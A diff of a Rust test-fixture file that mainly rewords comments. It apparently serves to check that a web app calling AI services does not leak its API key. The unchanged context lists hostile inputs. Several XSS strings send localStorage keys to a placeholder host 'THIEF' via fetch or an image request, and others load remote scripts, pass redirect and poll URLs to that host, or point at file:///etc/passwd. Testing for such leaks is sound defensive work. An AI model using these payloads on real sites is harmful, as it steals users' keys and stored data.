@@ -1,6 +1,7 @@
-//! What the attacks are. `THIEF` is host and port of another origin, `SERVICE` those of the service, and `KEY` the key.
+//! The lists of attacks. `THIEF` stands for host and port of another origin, `SERVICE` for those of the service, and
+//! `KEY` for the key.
 
-/// Texts that run where a page takes them for its own code.
+/// Texts that run as scripts if a page treats them as its own code.
 pub(super) const SCRIPTS: [&str; 20] = [
     "<img src=x onerror=\"stolen=1;fetch('//THIEF/ran?'+localStorage['easel.keys'])\">",
     "<script>stolen=1;new Image().src='http://THIEF/ran?'+JSON.stringify(localStorage)</script>",
@@ -24,7 +25,7 @@ pub(super) const SCRIPTS: [&str; 20] = [
     "</textarea></script><script src=http://THIEF/ran></script>",
 ];
 
-/// The statuses that repeat the key.
+/// The statuses of answers that repeat the key.
 pub(super) const ECHO_STATUSES: [&str; 10] = [
     "400 Bad Request",
     "401 Unauthorized",
@@ -38,7 +39,7 @@ pub(super) const ECHO_STATUSES: [&str; 10] = [
     "200 OK",
 ];
 
-/// The bodies that do. `ESCAPED` is the key in the escapes of JSON.
+/// Bodies that repeat the key. `ESCAPED` is the key in the escapes of JSON.
 pub(super) const BODIES: [&str; 5] = [
     r#"{"error": {"message": "Incorrect API key: KEY", "type": "KEY", "code": "KEY", "param": "KEY"}}"#,
     r#"{"detail": [{"msg": "Bearer KEY", "loc": ["header", "KEY"]}], "KEY": "KEY"}"#,
@@ -47,7 +48,7 @@ pub(super) const BODIES: [&str; 5] = [
     r#"{"created": 1, "data": [{"url": "KEY", "revised_prompt": "KEY"}], "usage": {"KEY": "KEY"}}"#,
 ];
 
-/// Statuses that lead elsewhere, and what they mean.
+/// The statuses of redirects, and the request that follows them.
 pub(super) const REDIRECTS: [(&str, &str); 5] = [
     ("301 Moved Permanently", "with GET"),
     ("302 Found", "with GET"),
@@ -56,7 +57,7 @@ pub(super) const REDIRECTS: [(&str, &str); 5] = [
     ("308 Permanent Redirect", "with the same request"),
 ];
 
-/// Ids of tasks that become part of an address.
+/// Hostile ids of tasks. An id becomes part of an address.
 pub(super) const TASK_IDS: [&str; 20] = [
     "http://THIEF/x",
     "//THIEF/x",
@@ -80,7 +81,7 @@ pub(super) const TASK_IDS: [&str; 20] = [
     "<img src=http://THIEF/ran>",
 ];
 
-/// Addresses of results. What is below `/401` and `/403` asks for a key, and so does all of the service.
+/// Addresses of results. Addresses below `/401` and `/403`, and all of the service, ask for a key.
 pub(super) const MEDIA: [&str; 40] = [
     "http://THIEF/a.png",
     "http://THIEF/a.mp4",
@@ -124,7 +125,7 @@ pub(super) const MEDIA: [&str; 40] = [
     "file:///etc/passwd",
 ];
 
-/// Answers to polls.
+/// Hostile answers to polls.
 pub(super) const WORDS: [&str; 8] = [
     r#"{"id": "x", "status": "processing", "poll_url": "http://THIEF/next", "status_url": "http://THIEF/next"}"#,
     r#"{"id": "x", "status": "processing", "urls": {"get": "http://THIEF/next"}, "location": "http://THIEF/next"}"#,
@@ -136,7 +137,7 @@ pub(super) const WORDS: [&str; 8] = [
     r#"{"id": "x", "status": "completed", "credits_cost": "KEY", "model": "KEY", "result": {"data": ["KEY"]}}"#,
 ];
 
-/// Paths of this site in links of others.
+/// Links of other sites to hostile paths of this site.
 pub(super) const LINKS: [&str; 26] = [
     "image#form=1&prompt=%3Cimg%20src%3Dhttp%3A%2F%2FTHIEF%2Fran%3E",
     "image#form=1&model=%3Cscript%3Efetch('http%3A%2F%2FTHIEF%2Fran')%3C%2Fscript%3E",
@@ -166,7 +167,7 @@ pub(super) const LINKS: [&str; 26] = [
     "%2F%2FTHIEF/",
 ];
 
-/// Elements of another page that show the site.
+/// Elements by which another page shows the site.
 pub(super) const FRAMES: [&str; 5] = [
     "<iframe src='SITE'></iframe>",
     "<iframe sandbox='allow-scripts allow-same-origin' src='SITE'></iframe>",
@@ -175,7 +176,7 @@ pub(super) const FRAMES: [&str; 5] = [
     "<iframe loading=eager src='SITE#form=1&prompt=a'></iframe>",
 ];
 
-/// Profiles of models that are hostile: their texts, their keys, their values.
+/// Hostile profiles of models: their texts, their keys, their values.
 pub(super) const HOUSE: &str = r#"{"families": [{
     "family": "<img src=x onerror=\"stolen=1\">",
     "match": ["house*", "*"],
